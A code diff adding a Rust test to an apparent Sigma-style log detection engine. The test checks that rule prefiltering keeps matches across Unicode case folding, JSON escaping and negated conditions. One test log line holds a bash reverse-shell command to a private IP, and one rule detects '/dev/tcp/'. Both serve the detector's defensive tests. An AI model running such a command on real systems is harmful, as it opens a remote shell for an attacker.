@@ -529,3 +529,84 @@ fn logsource_and_field_mapping_come_from_the_config() {
         assert_eq!(alerts(&env), [a("su-to-root", "h1", 0, 0, 1)], "{kind:?}");
     }
 }
+
+/// Many rules are checked through one prefilter pass per field
+/// (`rules/prefilter.rs`): what case folding, JSON escaping and negation do
+/// to the literals a rule requires must never lose a match. The Kelvin sign
+/// and the long s are what `(?i)k` and `(?i)s` also match; a command line
+/// with quotes is escaped in `extra`'s JSON; a negated search requires
+/// nothing.
+#[test]
+fn the_prefilter_of_many_rules_loses_no_match() {
+    let det = |name: &str, body: &str| {
+        (
+            Box::leak(format!("{name}.yml").into_boxed_str()) as &str,
+            format!(
+                "title: {name}\nname: {name}\nlogsource:\n  product: linux\n  service: sshd\n\
+                 detection:\n{body}level: high\n"
+            ),
+        )
+    };
+    let mut files = vec![
+        det(
+            "kelvin",
+            "  sel:\n    Message|contains: 'kernel panic'\n  condition: sel\n",
+        ),
+        det(
+            "longs",
+            "  keywords:\n    - 'session x'\n  condition: keywords\n",
+        ),
+        det(
+            "devtcp",
+            "  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel\n",
+        ),
+        det(
+            "upper",
+            "  sel:\n    User|contains: 'ADMIN'\n  condition: sel\n",
+        ),
+        det(
+            "negated",
+            "  sel:\n    Message|contains: 'Failed password'\n  condition: not sel\n",
+        ),
+    ];
+    for i in 0..40 {
+        files.push(det(
+            &format!("filler{i}"),
+            &format!("  sel:\n    Message|contains: 'no such text {i}'\n  condition: sel\n"),
+        ));
+    }
+    let lines = [
+        line(0, "h0", "kernel", "\u{212A}ernel panic - not syncing"),
+        line(1, "h1", "sshd", "\u{17F}e\u{17F}\u{17F}ion x opened"),
+        line(
+            2,
+            "h2",
+            "sudo",
+            "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c \"bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\"",
+        ),
+        line(
+            3,
+            "h3",
+            "sshd",
+            "Failed password for admin from 203.0.113.9 port 4242 ssh2",
+        ),
+    ];
+    for kind in kinds() {
+        let env = setup(kind, &files, "");
+        ingest(&env, "auth", &lines);
+        once(&env);
+        assert_eq!(
+            alerts(&env),
+            [
+                a("devtcp", "h2", 2, 2, 1),
+                a("kelvin", "h0", 0, 0, 1),
+                a("longs", "h1", 1, 1, 1),
+                a("negated", "h0", 0, 0, 1),
+                a("negated", "h1", 1, 1, 1),
+                a("negated", "h2", 2, 2, 1),
+                a("upper", "h3", 3, 3, 1),
+            ],
+            "{kind:?}"
+        );
+    }
+}
